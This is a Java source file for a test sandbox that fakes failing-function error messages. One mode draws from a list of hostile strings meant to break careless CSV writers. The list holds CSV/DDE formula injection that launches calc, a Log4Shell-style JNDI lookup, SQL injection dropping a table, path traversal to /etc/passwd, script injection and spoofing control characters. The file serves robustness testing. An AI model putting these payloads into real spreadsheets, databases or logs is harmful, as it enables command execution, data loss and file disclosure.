package io.tidemark.sandbox;

/** What functions that fail have to say, in all the ways that break careless writers of CSV. */
final class ErrorTexts {

    record Text(int code, String message) {}

    /** Of an invocation that did not fail. */
    static final Text NONE = new Text(0, "");

    private static final String[] RAISED = {
        "KeyError: 'customer_id' (order %s)",
        "Traceback (most recent call last):\n"
                + "  File \"/opt/function/code/index.py\", line 42, in handler\n"
                + "    total += int(item[\"amount\"])\n"
                + "ValueError: invalid literal for int() with base 10: '12,50'",
        "{\"errorMessage\":\"Connection refused: orders-db:5432\",\"errorType\":\"ConnectException\"}",
        "=HYPERLINK(\"http://example.invalid/%s\",\"open\")",
        "Zeitüberschreitung nach 900 s, Größe der Antwort: 0 Byte",
        "画像の変換に失敗しました 🖼 %s.png",
        "java.lang.OutOfMemoryError: Java heap space\r\n\tat com.example.Resize.run(Resize.java:118)",
        "+49 30 901820 is no account number, order \"%s\"",
        "-1: C:\\temp\\orders\\%s.csv: not found; retried 3 times",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "  leading and trailing blanks, a \"\" pair, a line separator\u2028and a lone \r return  ",
        "Function execution timed out after 30 seconds"
    };

    private static final String[] HOSTILE = {
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "'=1",
        "''",
        "'",
        "\"",
        "\"\"",
        "\"\"\"",
        "a\",\"b",
        ",",
        ",,,,,,,,,,,,,\n",
        ";",
        "\\",
        "\\\"",
        "\\N",
        "\\.",
        "\n\\.\n",
        "NULL",
        "null",
        "NaN",
        " ",
        "\r",
        "\n",
        "\r\n",
        "a\rb",
        "a\n\n\nb\n",
        "\uFEFFa byte order mark",
        "a line\u2028and a paragraph\u2029and a next line\u0085",
        "\u001B[31mred\u001B[0m and \u001B]0;title\u0007 and \u009B31m",
        "\u0001\u0008\u000B\u001F\u007F",
        "right to left: \u202Egnp.exe\u202C \u200F\u2066",
        "👩‍👩‍👧 🇩🇪 e\u0301 \uFFFD \uFFFF \uDBFF\uDFFF",
        "${jndi:ldap://example.invalid/a} ${file:/etc/passwd} %s %n {0}",
        "'; DROP TABLE async_invocations; --",
        "../../../../etc/passwd",
        "<script>alert(1)</script> &amp;",
        "{\"invocations\":[],\"next_marker\":0}",
        "function_urn,region,project_id,package,function_name,version,request_id,status"
    };

    private final Behaviour.Messages messages;

    ErrorTexts(Behaviour behaviour) {
        this.messages = behaviour.of(Behaviour.Messages.class);
    }

    Text of(History.Outcome outcome, long hash) {
        return switch (outcome) {
            case SUCCESS -> NONE;
            case DISCARD ->
                    (hash & 0x10000) == 0
                            ? new Text(4429, "The event was discarded: too many are waiting")
                            : new Text(4208, "The event was discarded: it waited for too long");
            case FAIL -> {
                String[] texts =
                        switch (messages) {
                            case REALISTIC, SOME_HUGE -> RAISED;
                            case HOSTILE -> HOSTILE;
                        };
                int which = (int) Long.remainderUnsigned(hash >>> 20, texts.length);
                String order = Long.toHexString(hash >>> 32);
                String message = texts[which].replace("%s", order);
                boolean huge = messages != Behaviour.Messages.REALISTIC && (hash >>> 24 & 0xff) < 8;
                yield new Text(
                        4200 + which,
                        huge ? message.repeat(1 + 1_000_000 / message.length()) : message);
            }
        };
    }
}
